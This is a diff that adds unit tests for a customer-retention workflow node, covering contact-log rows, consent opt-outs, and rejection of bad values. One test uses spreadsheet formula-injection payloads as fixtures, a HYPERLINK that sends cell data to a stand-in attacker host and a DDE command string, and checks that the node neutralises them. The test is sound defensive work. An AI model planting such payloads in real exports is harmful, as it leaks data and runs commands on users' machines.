@@ -89,3 +89,57 @@ describe('Retention Action and Lifecycle Stage with customer IDs that are protot
 		expect(second.json('Lifecycle Stage').map((r) => [r.customerId, r.stageChanged, r.previousStage])).toEqual(PROTOTYPE_IDS.map((id) => [id, false, 'active']));
 	});
 });
+
+describe('Retention Action writes contact-log rows that a spreadsheet cannot run', () => {
+	const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+	it('protects formula-like text with a leading quote, and reads its own rows back as the same customer', async () => {
+		const { byId } = await run([customer(hostile, { rfm: { segment: "-2+3+cmd|' /C calc'!A0" } }), customer('-42', { rfm: { segment: '@SUM(A1)' } })]);
+		expect(byId[hostile].contactLogRow).toMatchObject({ customerId: `'${hostile}`, segment: "'-2+3+cmd|' /C calc'!A0", group: 'treatment', action: 'loyaltyPerk' });
+		// A number stays a number; a formula after it does not.
+		expect(byId['-42'].contactLogRow).toMatchObject({ customerId: '-42', segment: "'@SUM(A1)" });
+		const log = [byId[hostile].contactLogRow as IDataObject];
+		const again = await runWorkflow(withContactLog([customer(hostile)], log, { sendTime: '2024-07-02T10:00:00Z', options: { rememberContacts: false } }));
+		expect(again.json('Retention Action', OUTPUTS.indexOf('none'))[0]).toMatchObject({ customerId: hostile, suppressionReason: 'same action 2 days ago (cooldown 14 days)' });
+	});
+});
+
+describe('Retention Action reads consent in every shape an item carries it, and an opt-out wins', () => {
+	it.each([
+		['consent: false', { consent: false }],
+		['top-level emailConsent', { consent: undefined, emailConsent: 'no' }],
+		['unsubscribed: true', { unsubscribed: true }],
+		['email_opt_in', { consent: undefined, email_opt_in: 'STOP!' }],
+		['consent.Email', { consent: { Email: 'unsubscribed 2024-05-01', sms: false } }],
+		['a yes beside a no', { consent: { email: true, sms: false }, email_opt_in: '退订了' }],
+	])('%s: never emailed, even with Require Opt-In off', async (_shape, overrides) => {
+		const { byId } = await run([customer('A', { ...overrides, phone: null })], { requireOptIn: false, channelOrder: 'email' });
+		expect(byId.A.output).toBe('none');
+		expect(byId.A.suppressionReason).toMatch(/opted out of email/);
+	});
+});
+
+describe('Retention Action refuses values that would make figures infinite, and says which', () => {
+	it('stops on predictedClv 1e308 naming the customer and the field', async () => {
+		const result = await runWorkflow(linearWorkflow([rowsStep([customer('A', { predictedClv: 1e308 })]), retentionAction()]));
+		expect(result.error?.message).toBe('Item 0 (customer A) predictedClv 1e+308 is beyond any customer\'s value (more than 1e+12): check the field and its unit');
+	});
+
+	it('an unreadable lastContactedAt is an error, not a customer who was never contacted', async () => {
+		const result = await runWorkflow(linearWorkflow([rowsStep([customer('A', { lastContactedAt: 'last Tuesday' })]), retentionAction()]));
+		expect(result.error?.message).toMatch(/^Item 0 \(customer A\) lastContactedAt "last Tuesday" is not a date format/);
+	});
+
+	it('reads a contact-log date that can only be month first, and takes a Date Order for the others', async () => {
+		const log = [{ customerId: 'A', contactedAt: '6/25/2024 10:00', action: 'loyaltyPerk' }];
+		const read = await runWorkflow(withContactLog([customer('A')], log, { options: { rememberContacts: false } }));
+		expect(read.json('Retention Action', OUTPUTS.indexOf('none'))[0]).toMatchObject({ customerId: 'A', suppressionReason: 'same action 5 days ago (cooldown 14 days)' });
+		const ambiguous = [{ customerId: 'A', contactedAt: '06/05/2024', action: 'loyaltyPerk' }];
+		const dayFirst = await runWorkflow(withContactLog([customer('A')], ambiguous, { options: { rememberContacts: false, dateOrder: 'mdy', cooldownDays: 30 } }));
+		expect(dayFirst.json('Retention Action', OUTPUTS.indexOf('none'))[0]).toMatchObject({ customerId: 'A', suppressionReason: 'same action 25 days ago (cooldown 30 days)' });
+	});
+
+	it('an object as customerId is no ID: the item is refused, never "[object Object]"', async () => {
+		const result = await runWorkflow(linearWorkflow([rowsStep([customer('A'), { ...customer('B'), customerId: { id: 'B' } }]), retentionAction()]));
+		expect(result.error?.message).toBe('Item 1 has no customerId (a text or a number)');
+	});
+});
